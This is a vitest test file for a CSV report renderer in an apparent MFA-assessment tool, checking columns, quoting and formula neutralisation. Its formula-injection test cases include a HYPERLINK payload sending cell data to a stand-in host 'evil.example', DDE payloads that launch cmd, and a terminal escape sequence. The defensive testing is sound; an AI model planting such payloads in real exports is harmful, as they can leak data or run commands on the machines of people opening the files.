import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, neutraliseFormula, renderCsv } from '../../src/report/csv.js';
import { assessment, sampleUsers, user } from './builder.js';
import { parseCsv } from '../support/csv.js';

describe('renderCsv', () => {
  it('writes a header and one row per user, with the documented columns', () => {
    const a = assessment(sampleUsers());
    const rows = parseCsv(renderCsv(a));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(a.users.length + 1);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
  });

  it('fills each column from the user', () => {
    const unverified = sampleUsers().find((u) => u.verdict === 'unverified')!;
    const [, row] = parseCsv(renderCsv(assessment([unverified])));
    const cell = (name: (typeof CSV_COLUMNS)[number]) => row![CSV_COLUMNS.indexOf(name)];
    expect(cell('verdict')).toBe('unverified');
    expect(cell('confidence')).toBe('');
    expect(cell('weak')).toBe('false');
    expect(cell('isAdmin')).toBe('false');
    expect(cell('methods')).toBe('password:not-mfa; microsoftAuthenticator:unverified');
    expect(cell('reason')).toContain('QR code scanned');
    expect(cell('reason')).not.toContain('\n');
    expect(cell('actionCode')).toBe('complete-authenticator-registration');
    expect(cell('actionText')).toContain('microsoftAuthenticatorMethods');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
    ['\uff1d1+1'],
  ])('neutralises a formula in a display name: %j', (name) => {
    const [, row] = parseCsv(renderCsv(assessment([user({ displayName: name, userPrincipalName: name })])));
    expect(row![CSV_COLUMNS.indexOf('displayName')]).toBe(`'${name}`);
    expect(row![CSV_COLUMNS.indexOf('userPrincipalName')]).toBe(`'${name}`);
  });

  it('leaves ordinary names alone and makes terminal escapes visible', () => {
    expect(neutraliseFormula('Zoë O’Brien-Smith')).toBe('Zoë O’Brien-Smith');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    const [, row] = parseCsv(renderCsv(assessment([user({ displayName: 'Eve\x1b[2J' })])));
    expect(row![CSV_COLUMNS.indexOf('displayName')]).toBe('Eve\\x1b[2J');
  });

  it('quotes commas, quotes and newlines instead of breaking the row', () => {
    const name = 'Smith, "Bob"\nSecond line';
    const rows = parseCsv(renderCsv(assessment([user({ displayName: name })])));
    expect(rows).toHaveLength(2);
    expect(rows[1]![CSV_COLUMNS.indexOf('displayName')]).toBe(name);
  });

  it('adds a UTF-8 byte order mark only when asked', () => {
    const a = assessment([user()]);
    expect(renderCsv(a).startsWith('\ufeff')).toBe(false);
    expect(renderCsv(a, { bom: true }).startsWith('\ufeff')).toBe(true);
  });
});
